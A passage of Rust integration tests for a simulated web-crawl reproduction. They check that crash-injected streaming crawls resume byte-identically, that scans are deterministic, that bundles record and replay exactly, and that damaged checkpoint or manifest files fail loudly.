/// armed (collapsed stacks, per-visit forensic dumps) the trace journal,
/// deterministic metrics, telemetry digest, per-site records and paper
/// tables are byte-identical to an unprofiled run.
#[test]
fn profiler_is_digest_and_record_invisible() {
    let _g = lock();
    let off = profiled_scan(false);
    let on = profiled_scan(true);
    assert_eq!(off.2, on.2, "profiler perturbed the telemetry digest");
    assert_eq!(off.1, on.1, "profiler leaked into the deterministic metric render");
    assert_eq!(off.3, on.3, "profiler perturbed the per-site records");
    assert_eq!(off.4, on.4, "profiler perturbed Table 5");
    assert_eq!(off.5, on.5, "profiler perturbed the fault history");
    assert_eq!(off.0, on.0, "profiler leaked into the trace journal");
}
