//! Chaos: crash-consistent streaming crawls (ISSUE: the paper's
//! reliability lesson, applied to the crawler itself).
//!
//! The contract under test: a streamed scan that is killed at an
//! arbitrary point — after a clean flush, mid-checkpoint-line, or
//! mid-bundle-append — and then resumed produces per-site records,
//! Table 5 and a telemetry digest *byte-identical* to an uninterrupted
//! run, at any worker count; and deliberately cross-corrupted
//! checkpoint/bundle pairs fail loudly instead of resuming quietly.

use std::path::PathBuf;
use std::sync::Mutex;

use gullible::{diff_bundles, ReplayBundle, Scan, ScanConfig, STREAM_CHECKPOINT_FILE};
use openwpm::{catch_crash, CrashPlan, FaultPlan, KillPoint};

// Streaming scans restore per-visit metric deltas into the process-global
// obs registry and the digest tests flip global stats on; serialize.
static OBS: Mutex<()> = Mutex::new(());

fn lock() -> std::sync::MutexGuard<'static, ()> {
    OBS.lock().unwrap_or_else(|e| e.into_inner())
}

fn tmp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("gullible-chaos-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn chaos_cfg(n: u32, seed: u64, workers: usize) -> ScanConfig {
    ScanConfig {
        workers,
        faults: FaultPlan::adversarial(seed),
        flaky_sites_per_100k: 1_000,
        ..ScanConfig::new(n, seed)
    }
}

/// Everything two runs must agree on, byte for byte.
#[derive(Debug, PartialEq)]
struct Fingerprint {
    table5: [(u32, u32); 3],
    table7: Vec<(String, u32)>,
    completion: (usize, usize, usize),
    records_digest: u64,
    telemetry_digest: u64,
}

fn fingerprint(report: &gullible::ScanReport, dir: &std::path::Path) -> Fingerprint {
    let bundle = ReplayBundle::open(dir).expect("committed stream bundle must open");
    Fingerprint {
        table5: report.table5(),
        table7: report.table7(),
        completion: (
            report.completion.completed,
            report.completion.failed,
            report.completion.interrupted,
        ),
        records_digest: bundle.commit.records_digest,
        telemetry_digest: bundle.commit.telemetry_digest,
    }
}

fn fresh_registry() {
    gullible::obs::reset();
    gullible::obs::set_stats(true);
}

#[test]
fn stream_matches_recorded_run_byte_for_byte() {
    let _g = lock();
    let (sdir, rdir) = (tmp_dir("stream-vs-record"), tmp_dir("stream-vs-record-ref"));
    let cfg = chaos_cfg(180, 11, 4);

    fresh_registry();
    let streamed = Scan::new(cfg).stream_to(&sdir).run().expect("stream");
    let stream_fp = fingerprint(&streamed, &sdir);

    let stream = streamed.stream.expect("streamed report carries stream stats");
    assert!(stream.committed && !stream.resumed);
    assert_eq!(stream.records_flushed, 180);
    assert!(
        stream.peak_records_in_flight <= cfg.workers as u64 + 1,
        "streaming must hold O(workers) records, saw peak {}",
        stream.peak_records_in_flight
    );
    assert!(streamed.sites.is_empty(), "streaming keeps no per-site records");
    assert!(streamed.aggregates.is_some());

    fresh_registry();
    let recorded = Scan::new(cfg).record(&rdir).run().expect("record");
    let record_fp = fingerprint(&recorded, &rdir);
    gullible::obs::reset();

    // A streamed scan is the same experiment as a classic recorded scan:
    // same tables, same bundle records, same telemetry digest.
    assert_eq!(stream_fp, record_fp);
    assert_eq!(streamed.table6(), recorded.table6());
    assert_eq!(streamed.table12(), recorded.table12());
    assert_eq!(streamed.rank_buckets(30), recorded.rank_buckets(30));
    assert_eq!(streamed.category_tallies(), recorded.category_tallies());
    assert_eq!(streamed.script_stats(), recorded.script_stats());
    assert_eq!(streamed.inclusion_totals(), recorded.inclusion_totals());
    assert_eq!(streamed.history, recorded.history);
    let (a, b) = (ReplayBundle::open(&sdir).unwrap(), ReplayBundle::open(&rdir).unwrap());
    assert!(diff_bundles(&a, &b).is_clean(), "stream vs record bundles must diff clean");
}

/// The tentpole property: over random (seed, kill-point, worker-count),
/// crash → resume ≡ uninterrupted.
#[test]
fn crashed_and_resumed_stream_is_byte_identical_to_uninterrupted() {
    let _g = lock();
    let n = 120u32;
    for (case, &(seed, workers)) in
        [(3u64, 1usize), (4, 4), (5, 4), (6, 1), (7, 4), (8, 4)].iter().enumerate()
    {
        // Uninterrupted reference run.
        let ref_dir = tmp_dir(&format!("ref-{case}"));
        let cfg = chaos_cfg(n, seed, workers);
        fresh_registry();
        let reference = Scan::new(cfg).stream_to(&ref_dir).run().expect("reference");
        let ref_fp = fingerprint(&reference, &ref_dir);

        // Crashed run: a seeded kill-point somewhere in the first half of
        // the crawl (so the resume always has real work left).
        let dir = tmp_dir(&format!("crash-{case}"));
        let plan = CrashPlan::seeded(seed.wrapping_mul(0x9e37), n / 2);
        fresh_registry();
        let crashed = catch_crash(|| Scan::new(cfg).stream_to(&dir).inject_crash(plan).run());
        assert!(crashed.is_none(), "case {case}: planned kill {plan:?} must crash the crawl");

        // Resume in a notionally fresh process.
        fresh_registry();
        let resumed = Scan::new(cfg).stream_to(&dir).run().expect("resume");
        let fp = fingerprint(&resumed, &dir);
        gullible::obs::reset();

        let stream = resumed.stream.expect("stream stats");
        assert!(stream.resumed && stream.committed, "case {case}: {stream:?}");
        assert!(stream.records_replayed > 0, "case {case}: nothing replayed");
        assert_eq!(
            fp, ref_fp,
            "case {case} (seed {seed}, workers {workers}, kill {plan:?}): \
             crashed-and-resumed run diverged from the uninterrupted run"
        );
        assert_eq!(resumed.history, reference.history, "case {case}");
        let (a, b) = (ReplayBundle::open(&dir).unwrap(), ReplayBundle::open(&ref_dir).unwrap());
        assert!(diff_bundles(&a, &b).is_clean(), "case {case}: bundles must diff clean");

        // The torn classes must actually have left damage behind for at
        // least some cases; the recovery counters make that visible.
        match plan.kill {
            KillPoint::MidCheckpointLine(..) => assert!(
                stream.checkpoint_lines_dropped > 0 || stream.revisits > 0,
                "case {case}: mid-line kill left no visible damage"
            ),
            KillPoint::MidBundleAppend(..) | KillPoint::AfterVisit(_) => {}
        }
    }
}

/// Every kill class, pinned explicitly (the seeded sweep above may not
/// cover all three), including a kill on the very first flush.
#[test]
fn every_kill_class_recovers() {
    let _g = lock();
    let n = 80u32;
    let kills = [
        KillPoint::AfterVisit(1),
        KillPoint::AfterVisit(20),
        KillPoint::MidCheckpointLine(7, 0),
        KillPoint::MidCheckpointLine(7, 25),
        KillPoint::MidBundleAppend(13, 0),
        KillPoint::MidBundleAppend(13, 33),
    ];
    let cfg = chaos_cfg(n, 21, 4);
    let ref_dir = tmp_dir("classes-ref");
    fresh_registry();
    let reference = Scan::new(cfg).stream_to(&ref_dir).run().expect("reference");
    let ref_fp = fingerprint(&reference, &ref_dir);

    for (i, kill) in kills.into_iter().enumerate() {
        let dir = tmp_dir(&format!("classes-{i}"));
        fresh_registry();
        let crashed =
            catch_crash(|| Scan::new(cfg).stream_to(&dir).inject_crash(CrashPlan::new(kill)).run());
        assert!(crashed.is_none(), "kill {kill:?} must crash");
        fresh_registry();
        let resumed = Scan::new(cfg).stream_to(&dir).run().expect("resume");
        let fp = fingerprint(&resumed, &dir);
        gullible::obs::reset();
        assert_eq!(fp, ref_fp, "kill {kill:?}: resume diverged");
        let stream = resumed.stream.unwrap();
        match kill {
            // A clean-boundary kill loses nothing: resume replays all K
            // flushed records and re-visits only never-started sites.
            KillPoint::AfterVisit(k) => {
                assert_eq!(stream.records_replayed, k as u64, "kill {kill:?}");
                assert_eq!(stream.checkpoint_lines_dropped, 0, "kill {kill:?}");
                assert_eq!(stream.bundle_tail_dropped, 0, "kill {kill:?}");
            }
            // A torn checkpoint line loses exactly that line (with
            // `keep == 0` nothing of it ever hit disk, so the file just
            // ends early); either way its bundle entry is unacknowledged
            // and the site re-visited.
            KillPoint::MidCheckpointLine(k, keep) => {
                assert_eq!(stream.records_replayed, k as u64 - 1, "kill {kill:?}");
                assert_eq!(
                    stream.checkpoint_lines_dropped,
                    if keep > 0 { 1 } else { 0 },
                    "kill {kill:?}"
                );
                assert_eq!(stream.revisits, 1, "kill {kill:?}");
            }
            // A torn bundle append never got a checkpoint line: the torn
            // manifest tail is discarded wholesale (with `keep == 0` the
            // append died before writing a single byte).
            KillPoint::MidBundleAppend(k, keep) => {
                let torn = if keep > 0 { 1 } else { 0 };
                assert_eq!(stream.records_replayed, k as u64 - 1, "kill {kill:?}");
                assert_eq!(stream.checkpoint_lines_dropped, 0, "kill {kill:?}");
                assert_eq!(stream.bundle_tail_dropped, torn, "kill {kill:?}");
                assert_eq!(stream.revisits, 0, "kill {kill:?}");
            }
        }
    }
}

/// Every injected crash must leave an *explainable* trace: with the
/// flight recorder armed, each kill class writes a parseable forensic
/// dump naming the in-flight phase (all three classes die inside the
/// record flush, nested under the visit) — and the armed recorder must
/// not perturb the resumed run's bytes.
#[test]
fn chaos_kills_leave_explainable_forensics() {
    let _g = lock();
    let n = 80u32;
    let cfg = chaos_cfg(n, 21, 4);
    let ref_dir = tmp_dir("forensic-ref");
    fresh_registry();
    let reference = Scan::new(cfg).stream_to(&ref_dir).run().expect("reference");
    let ref_fp = fingerprint(&reference, &ref_dir);

    let kills = [
        KillPoint::AfterVisit(9),
        KillPoint::MidCheckpointLine(7, 14),
        KillPoint::MidBundleAppend(11, 6),
    ];
    for (i, kill) in kills.into_iter().enumerate() {
        let dir = tmp_dir(&format!("forensic-{i}"));
        let dumps = std::env::temp_dir()
            .join(format!("gullible-chaos-forensics-{i}-{}.jsonl", std::process::id()));
        let _ = std::fs::remove_file(&dumps);

        // `fresh_registry` resets obs (disarming the recorder), so re-arm
        // after it — exactly what a crash-investigation run would do.
        fresh_registry();
        gullible::obs::prof::set_forensic_path(Some(&dumps)).expect("arm flight recorder");
        let crashed =
            catch_crash(|| Scan::new(cfg).stream_to(&dir).inject_crash(CrashPlan::new(kill)).run());
        assert!(crashed.is_none(), "kill {kill:?} must crash");

        let text = std::fs::read_to_string(&dumps).expect("crash must leave a forensic dump");
        let summary = gullible::obs::validate::validate_forensic(&text)
            .unwrap_or_else(|e| panic!("kill {kill:?}: unparseable forensic dump: {e}"));
        assert!(summary.dumps >= 1, "kill {kill:?}: no forensic dumps");
        let chaos_dump = summary
            .triggers
            .iter()
            .find(|(t, _)| t == "chaos_kill")
            .unwrap_or_else(|| panic!("kill {kill:?}: no chaos_kill dump in {:?}", summary.triggers));
        assert!(
            chaos_dump.1.contains("archive.flush"),
            "kill {kill:?}: dump must name the in-flight phase, got {:?}",
            chaos_dump.1
        );
        assert!(summary.ring_events > 0, "kill {kill:?}: empty flight-recorder ring");

        // Resume with the recorder still armed: bytes must match the
        // (recorder-off) reference exactly.
        fresh_registry();
        gullible::obs::prof::set_forensic_path(Some(&dumps)).expect("re-arm flight recorder");
        let resumed = Scan::new(cfg).stream_to(&dir).run().expect("resume");
        let fp = fingerprint(&resumed, &dir);
        gullible::obs::reset();
        assert_eq!(fp, ref_fp, "kill {kill:?}: armed recorder perturbed the resume");
        let _ = std::fs::remove_file(&dumps);
    }
}

/// A crawl can crash, resume, crash again, and still converge.
#[test]
fn double_crash_still_converges() {
    let _g = lock();
    let n = 90u32;
    let cfg = chaos_cfg(n, 33, 4);
    let ref_dir = tmp_dir("double-ref");
    fresh_registry();
    let reference = Scan::new(cfg).stream_to(&ref_dir).run().expect("reference");
    let ref_fp = fingerprint(&reference, &ref_dir);

    let dir = tmp_dir("double");
    fresh_registry();
    let first = catch_crash(|| {
        Scan::new(cfg)
            .stream_to(&dir)
            .inject_crash(CrashPlan::new(KillPoint::MidCheckpointLine(10, 12)))
            .run()
    });
    assert!(first.is_none());
    fresh_registry();
    let second = catch_crash(|| {
        Scan::new(cfg)
            .stream_to(&dir)
            .inject_crash(CrashPlan::new(KillPoint::MidBundleAppend(15, 5)))
            .run()
    });
    assert!(second.is_none(), "second kill fires within the remaining work");
    fresh_registry();
    let resumed = Scan::new(cfg).stream_to(&dir).run().expect("final resume");
    let fp = fingerprint(&resumed, &dir);
    gullible::obs::reset();
    assert_eq!(fp, ref_fp, "two crashes deep, the crawl still converges");
}

/// Interrupting a stream via `visit_budget` (no crash at all) leaves an
/// uncommitted bundle that a later unbudgeted run completes and seals.
#[test]
fn budgeted_stream_resumes_like_checkpoint() {
    let _g = lock();
    let n = 60u32;
    let cfg = chaos_cfg(n, 44, 4);
    let ref_dir = tmp_dir("budget-ref");
    fresh_registry();
    let reference = Scan::new(cfg).stream_to(&ref_dir).run().expect("reference");
    let ref_fp = fingerprint(&reference, &ref_dir);

    let dir = tmp_dir("budget");
    fresh_registry();
    let partial = Scan::new(ScanConfig { visit_budget: Some(25), ..cfg })
        .stream_to(&dir)
        .run()
        .expect("budgeted stream");
    let pstream = partial.stream.unwrap();
    assert!(!pstream.committed, "budgeted run must leave the bundle unsealed");
    assert!(partial.completion.interrupted > 0);
    assert!(
        ReplayBundle::open(&dir).is_err(),
        "an unsealed bundle must refuse to open for replay"
    );

    fresh_registry();
    let resumed = Scan::new(cfg).stream_to(&dir).run().expect("resume");
    let fp = fingerprint(&resumed, &dir);
    gullible::obs::reset();
    assert!(resumed.stream.unwrap().resumed);
    assert_eq!(fp, ref_fp);
}

/// Cross-corruption matrix: mismatched checkpoint/bundle pairs must be
/// hard errors (or clean fresh starts where nothing is trusted) — never
/// a quiet partial resume.
#[test]
fn cross_corruption_fails_loudly() {
    let _g = lock();
    let n = 50u32;
    let cfg = chaos_cfg(n, 55, 2);

    let make_crashed = |name: &str| {
        let dir = tmp_dir(name);
        fresh_registry();
        let crashed = catch_crash(|| {
            Scan::new(cfg)
                .stream_to(&dir)
                .inject_crash(CrashPlan::new(KillPoint::AfterVisit(12)))
                .run()
        });
        assert!(crashed.is_none());
        dir
    };

    // 1. Damage a bundle entry inside the trusted prefix: hard error.
    let dir = make_crashed("xc-damaged-entry");
    let manifest = dir.join("manifest.gar");
    let pristine = std::fs::read_to_string(&manifest).unwrap();
    let damaged: Vec<String> = pristine
        .lines()
        .enumerate()
        .map(|(i, l)| if i == 3 { l.replace(['0', '1'], "x") } else { l.to_string() })
        .collect();
    std::fs::write(&manifest, damaged.join("\n") + "\n").unwrap();
    fresh_registry();
    let err = Scan::new(cfg).stream_to(&dir).run().map(|_| ()).unwrap_err().to_string();
    assert!(
        err.contains("trusted prefix") || err.contains("checkpoint"),
        "damaged trusted entry must be loud, got: {err}"
    );

    // 2. Truncate the manifest below the checkpointed high-water mark:
    //    the storage reneged on acknowledged durability — hard error.
    let dir = make_crashed("xc-truncated");
    let manifest = dir.join("manifest.gar");
    let pristine = std::fs::read_to_string(&manifest).unwrap();
    let keep: Vec<&str> = pristine.lines().collect();
    std::fs::write(&manifest, keep[..keep.len() - 4].join("\n") + "\n").unwrap();
    fresh_registry();
    let err = Scan::new(cfg).stream_to(&dir).run().map(|_| ()).unwrap_err().to_string();
    assert!(
        err.contains("high-water mark") || err.contains("no bundle entry"),
        "truncated-below-hwm manifest must be loud, got: {err}"
    );

    // 3. Delete the checkpoint but keep the stale partial bundle: nothing
    //    is trusted, so the run starts fresh — and still matches a
    //    reference run exactly (the stale bundle must not leak in).
    let dir = make_crashed("xc-no-ckpt");
    std::fs::remove_file(dir.join(STREAM_CHECKPOINT_FILE)).unwrap();
    fresh_registry();
    let report = Scan::new(cfg).stream_to(&dir).run().expect("fresh start");
    let fp = fingerprint(&report, &dir);
    let stream = report.stream.unwrap();
    assert!(!stream.resumed && stream.committed);
    assert_eq!(stream.records_flushed, n as u64);

    let ref_dir = tmp_dir("xc-ref");
    fresh_registry();
    let reference = Scan::new(cfg).stream_to(&ref_dir).run().expect("reference");
    assert_eq!(fp, fingerprint(&reference, &ref_dir));

    // 4. Corrupt a checkpoint line in the *middle* of the file: that line
    //    is dropped and counted, its site re-visited, and the result still
    //    converges.
    let dir = make_crashed("xc-midline");
    let ckpt = dir.join(STREAM_CHECKPOINT_FILE);
    let pristine = std::fs::read_to_string(&ckpt).unwrap();
    let mut lines: Vec<String> = pristine.lines().map(String::from).collect();
    assert!(lines.len() > 6, "need a middle line to corrupt");
    lines[5] = lines[5].replace(['0', '1', '2'], "z");
    std::fs::write(&ckpt, lines.join("\n") + "\n").unwrap();
    fresh_registry();
    let resumed = Scan::new(cfg).stream_to(&dir).run().expect("resume past corrupt line");
    let fp = fingerprint(&resumed, &dir);
    gullible::obs::reset();
    let stream = resumed.stream.unwrap();
    assert_eq!(stream.checkpoint_lines_dropped, 1);
    assert!(stream.revisits >= 1, "the dropped line's site must be re-visited");
    assert_eq!(fp, fingerprint(&reference, &ref_dir));

    // 5. A sealed bundle refuses further streaming (re-running the same
    //    command twice must not scribble on finished results).
    fresh_registry();
    let err =
        Scan::new(cfg).stream_to(&ref_dir).run().map(|_| ()).unwrap_err().to_string();
    gullible::obs::reset();
    assert!(err.contains("committed"), "sealed bundle must refuse, got: {err}");
}

/// Mode guards: streaming owns its checkpoint; crash injection requires
/// streaming.
#[test]
fn stream_mode_guards() {
    let cfg = ScanConfig::new(4, 1);
    let err = Scan::new(cfg)
        .stream_to(tmp_dir("guard-a"))
        .checkpoint(tmp_dir("guard-a-ck"))
        .run()
        .map(|_| ())
        .unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidInput);
    let err = Scan::new(cfg)
        .inject_crash(CrashPlan::new(KillPoint::AfterVisit(1)))
        .run()
        .map(|_| ())
        .unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidInput);
}
