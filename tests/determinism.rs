//! Determinism guarantees: the whole reproduction derives from a single
//! seed, so identical configurations must produce identical results.

use gullible::scan::{Scan, ScanConfig};
use gullible::{run_compare, CompareConfig};
use webgen::Population;

#[test]
fn population_is_pure() {
    let a = Population::new(5_000, 123);
    let b = Population::new(5_000, 123);
    for rank in (0..5_000).step_by(37) {
        let pa = a.plan(rank);
        let pb = b.plan(rank);
        assert_eq!(pa.domain, pb.domain);
        assert_eq!(pa.front.third_party, pb.front.third_party);
        assert_eq!(pa.strict_csp, pb.strict_csp);
        assert_eq!(pa.site_seed, pb.site_seed);
    }
}

#[test]
fn different_seeds_give_different_webs() {
    let a = Population::new(5_000, 1);
    let b = Population::new(5_000, 2);
    let differing = (0..200).filter(|r| a.plan(*r).site_seed != b.plan(*r).site_seed).count();
    assert!(differing > 190);
}

#[test]
fn scans_are_reproducible() {
    let cfg = ScanConfig { workers: 3, ..ScanConfig::new(400, 55) };
    let r1 = Scan::new(cfg).run().expect("scan");
    let r2 = Scan::new(cfg).run().expect("scan");
    assert_eq!(r1.table5(), r2.table5());
    assert_eq!(r1.table7(), r2.table7());
    for (a, b) in r1.sites.iter().zip(&r2.sites) {
        assert_eq!(a.third_party_domains, b.third_party_domains, "rank {}", a.rank);
        assert_eq!(a.front.static_true, b.front.static_true);
        assert_eq!(a.front.dynamic_true, b.front.dynamic_true);
    }
}

#[test]
fn comparisons_are_reproducible() {
    let cfg = CompareConfig { n_sites: 2_000, seed: 55, runs: 2, workers: 2 };
    let r1 = run_compare(cfg);
    let r2 = run_compare(cfg);
    assert_eq!(r1.compare_set, r2.compare_set);
    for ((w1, h1), (w2, h2)) in r1.runs.iter().zip(&r2.runs) {
        assert_eq!(w1.total_requests(), w2.total_requests());
        assert_eq!(h1.total_requests(), h2.total_requests());
        assert_eq!(w1.easylist_total(), w2.easylist_total());
    }
}

#[test]
fn worker_count_does_not_change_results() {
    let base = ScanConfig { workers: 1, ..ScanConfig::new(300, 77) };
    let par = ScanConfig { workers: 4, ..base };
    let r1 = Scan::new(base).run().expect("scan");
    let r4 = Scan::new(par).run().expect("scan");
    assert_eq!(r1.table5(), r4.table5());
    assert_eq!(r1.table12(), r4.table12());
}
