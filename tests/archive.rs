//! Crawl-archive integration: record a scan into a content-addressed
//! bundle, replay the whole pipeline from it, and diff bundles.
//!
//! The reproducibility contract under test (ISSUE: paper Sec. 6.3): a
//! replayed scan must reproduce the recording run's per-site records,
//! Table 5, crawl history and telemetry digest *byte-for-byte*, at any
//! worker count; two same-seed recordings must diff clean; and a damaged
//! bundle must fail loudly, never silently re-measure partial data.

use std::path::PathBuf;
use std::sync::Mutex;

use gullible::{diff_bundles, site_visit, ReplayBundle, Scan, ScanConfig};
use openwpm::FaultPlan;
use webgen::Population;

// Every test here runs scans against the process-global obs registry, and
// the digest tests flip global stats on; serialize them all so one test's
// metrics can't bleed into another's digest.
static OBS: Mutex<()> = Mutex::new(());

fn lock() -> std::sync::MutexGuard<'static, ()> {
    OBS.lock().unwrap_or_else(|e| e.into_inner())
}

fn tmp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("gullible-archive-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

#[test]
fn record_then_replay_reproduces_run_byte_for_byte() {
    let _g = lock();
    let dir = tmp_dir("roundtrip");
    let cfg = ScanConfig {
        faults: FaultPlan::adversarial(3),
        flaky_sites_per_100k: 1_000,
        ..ScanConfig::new(240, 7)
    };

    gullible::obs::reset();
    gullible::obs::set_stats(true);
    let recorded = Scan::new(cfg).record(&dir).run().expect("record");
    let stats = recorded.archive.expect("recording run must report archive stats");
    assert_eq!(stats.sites, 240);
    assert!(stats.blobs_written > 0);
    assert!(stats.dedup_hits > 0, "shared provider scripts must dedup");

    // Replay at a different worker count: the bundle carries the recorded
    // config; only parallelism comes from the caller.
    gullible::obs::reset();
    gullible::obs::set_stats(true);
    let replayed =
        Scan::new(ScanConfig { workers: 1, ..ScanConfig::new(1, 1) }).replay(&dir).run().expect("replay");
    let replay_digest = gullible::obs::registry().snapshot().digest();
    gullible::obs::reset();

    let rstats = replayed.replay.expect("replay run must report replay stats");
    assert_eq!(rstats.sites, 240);
    assert_eq!(rstats.divergences, 0, "replay must reproduce every recorded outcome");

    assert_eq!(replayed.n_sites, recorded.n_sites);
    assert_eq!(replayed.table5(), recorded.table5());
    assert_eq!(replayed.table6(), recorded.table6());
    assert_eq!(replayed.table12(), recorded.table12());
    assert_eq!(replayed.history, recorded.history);
    assert_eq!(replayed.completion, recorded.completion);
    assert_eq!(replayed.sites, recorded.sites, "per-site records must be identical");

    let bundle = ReplayBundle::open(&dir).expect("open");
    assert!(bundle.commit.stats_enabled);
    assert_eq!(
        bundle.commit.telemetry_digest, replay_digest,
        "replay telemetry digest must equal the recording run's"
    );
    assert_eq!(bundle.commit.table5, recorded.table5());
    assert_eq!(bundle.commit.completed, recorded.completion.completed);
    assert_eq!(bundle.commit.failed, recorded.completion.failed);

    let _ = std::fs::remove_dir_all(&dir);
}

/// Property: over randomized small scans, (a) the bundle's blob counts
/// equal the corpus statistics computed independently from the generator
/// (blobs = unique script bodies, dedup hits = served − unique), and
/// (b) replay reproduces the per-site records exactly — including runs
/// with fault weather and budget-interrupted tails.
#[test]
fn randomized_scans_roundtrip_with_exact_blob_accounting() {
    let _g = lock();
    gullible::obs::reset();
    proplite::run_cases(4, 0xA2C4_11EE, |rng| {
        let n_sites = rng.u32_in(30, 70);
        let cfg = ScanConfig {
            include_subpages: rng.bool(),
            faults: if rng.bool() { FaultPlan::adversarial(rng.u32_in(1, 9) as u64) } else { FaultPlan::none() },
            visit_budget: if rng.bool() { Some(n_sites as usize / 2) } else { None },
            ..ScanConfig::new(n_sites, rng.u32_in(1, 1_000) as u64)
        };
        let dir = tmp_dir("prop");

        let recorded = Scan::new(cfg).record(&dir).run().expect("record");
        let stats = recorded.archive.expect("archive stats");

        // Independent corpus statistics straight from the generator.
        let mut pop = Population::new(cfg.n_sites, cfg.seed);
        pop.targets.flaky_per_100k = cfg.flaky_sites_per_100k;
        let mut served = 0u64;
        let mut unique = std::collections::HashSet::new();
        for rank in 0..cfg.n_sites {
            for spec in &site_visit(&pop.plan(rank), cfg.include_subpages).pages {
                for script in &spec.scripts {
                    served += 1;
                    unique.insert(script.content_hash());
                }
            }
        }
        assert_eq!(stats.sites as u32, cfg.n_sites);
        assert_eq!(stats.blobs_written, unique.len() as u64, "blobs = unique script bodies");
        assert_eq!(stats.dedup_hits, served - unique.len() as u64);

        let replayed = Scan::new(ScanConfig { workers: rng.usize_in(1, 3), ..cfg })
            .replay(&dir)
            .run()
            .expect("replay");
        assert_eq!(replayed.replay.unwrap().divergences, 0);
        assert_eq!(replayed.sites, recorded.sites);
        assert_eq!(replayed.history, recorded.history);
        assert_eq!(replayed.completion.interrupted, recorded.completion.interrupted);

        let _ = std::fs::remove_dir_all(&dir);
    });
}

#[test]
fn same_seed_bundles_diff_clean_and_ablations_diff_dirty() {
    let _g = lock();
    gullible::obs::reset();
    let cfg = ScanConfig::new(150, 23);
    let (dir_a, dir_b, dir_c) = (tmp_dir("diff-a"), tmp_dir("diff-b"), tmp_dir("diff-c"));

    Scan::new(cfg).record(&dir_a).run().expect("record a");
    Scan::new(ScanConfig { workers: 2, ..cfg }).record(&dir_b).run().expect("record b");
    // The Sec. 6.3 shape: same sites, different client behaviour.
    Scan::new(ScanConfig { simulate_interaction: true, ..cfg })
        .record(&dir_c)
        .run()
        .expect("record c");

    let a = ReplayBundle::open(&dir_a).expect("open a");
    let b = ReplayBundle::open(&dir_b).expect("open b");
    let c = ReplayBundle::open(&dir_c).expect("open c");

    let clean = diff_bundles(&a, &b);
    assert!(clean.is_clean(), "same-seed runs must diff clean: {:?}", clean.deltas.first());
    assert!(!clean.config_differs, "worker count is not part of the recorded experiment");
    assert_eq!(a.commit.records_digest, b.commit.records_digest);

    let dirty = diff_bundles(&a, &c);
    assert!(dirty.config_differs);
    assert!(!dirty.is_clean(), "interaction ablation must change some site's records");
    assert!(dirty
        .deltas
        .iter()
        .any(|d| d.changes.iter().any(|c| c.starts_with("records.") || c.contains("record fields"))));
    // Sites the ablation doesn't touch stay identical.
    assert!(dirty.deltas.len() < 150);

    for d in [&dir_a, &dir_b, &dir_c] {
        let _ = std::fs::remove_dir_all(d);
    }
}

#[test]
fn damaged_bundles_fail_loudly() {
    let _g = lock();
    gullible::obs::reset();
    let dir = tmp_dir("damage");
    Scan::new(ScanConfig::new(25, 5)).record(&dir).run().expect("record");
    let manifest = dir.join("manifest.gar");
    let pristine = std::fs::read_to_string(&manifest).expect("read manifest");

    // Missing bundle directory.
    let err = ReplayBundle::open(tmp_dir("nowhere")).unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::NotFound);

    // Uncommitted bundle: the recording crawl died before sealing.
    let without_commit: Vec<&str> = pristine.lines().collect();
    std::fs::write(&manifest, without_commit[..without_commit.len() - 1].join("\n"))
        .expect("truncate");
    let err = ReplayBundle::open(&dir).unwrap_err().to_string();
    assert!(err.contains("no commit line"), "{err}");

    // Committed bundle with a tampered site entry.
    let mut bytes = pristine.clone().into_bytes();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x01;
    std::fs::write(&manifest, &bytes).expect("tamper");
    let err = ReplayBundle::open(&dir).unwrap_err().to_string();
    assert!(
        err.contains("dropped manifest lines") || err.contains("missing site"),
        "{err}"
    );

    // Restore and verify it opens again (the damage checks are real).
    std::fs::write(&manifest, &pristine).expect("restore");
    ReplayBundle::open(&dir).expect("pristine bundle must open");

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn replay_and_record_reject_invalid_mode_combinations() {
    let _g = lock();
    let dir = tmp_dir("modes");
    let cfg = ScanConfig::new(10, 1);
    let err = Scan::new(cfg).replay(&dir).checkpoint(dir.join("ckpt")).run().unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidInput);
    let err = Scan::new(cfg).record(&dir).checkpoint(dir.join("ckpt")).run().unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidInput);
    let err = Scan::new(cfg)
        .record(dir.join("rec"))
        .replay(dir.join("rep"))
        .run()
        .unwrap_err();
    // Replay wins the dispatch and rejects the combination (no bundle
    // exists anyway, but the mode check fires first).
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidInput);
    let _ = std::fs::remove_dir_all(&dir);
}
