//! Supervised-crawl guarantees (the robustness additions around Sec. 4's
//! scan): fault-injected crawls degrade gracefully and report their
//! completeness, aggregates are deterministic under faults, and a crawl
//! killed midway resumes from its checkpoint to byte-identical aggregates.

use std::path::PathBuf;

use gullible::scan::{
    checkpoint_line, decode_site_record, encode_site_record, parse_checkpoint_line, PageFlags,
    Scan, ScanConfig, SiteScanRecord,
};
use openwpm::{CrawlStatus, FailureReason, FaultPlan, VisitOutcome};
use webgen::Category;

fn tmp_checkpoint(tag: &str) -> PathBuf {
    let path = std::env::temp_dir()
        .join(format!("gullible-supervised-{tag}-{}.ckpt", std::process::id()));
    let _ = std::fs::remove_file(&path);
    path
}

/// The issue's acceptance scenario: a 1,000-site scan under a 5% crash /
/// 1% hang / 1% nav-error fault plan completes without panicking, reports
/// a per-reason failure breakdown, and still covers ≥ 95% of sites.
#[test]
fn adversarial_thousand_site_scan_degrades_gracefully() {
    let cfg = ScanConfig {
        faults: FaultPlan::adversarial(7),
        ..ScanConfig::new(1_000, 42)
    };
    let report = Scan::new(cfg).run().expect("scan");

    assert_eq!(report.completion.total, 1_000);
    assert_eq!(report.history.len(), 1_000);
    assert_eq!(report.sites.len(), report.completion.completed);
    assert!(
        report.completion.completion_rate() >= 0.95,
        "completion {:.3}",
        report.completion.completion_rate()
    );
    // With a 5% per-visit crash rate some visits must have been retried.
    assert!(report.completion.recovered > 0);
    assert!(report.completion.restarts > 0);

    // Failures (if any at this retry budget) carry typed reasons that the
    // coverage line itemises.
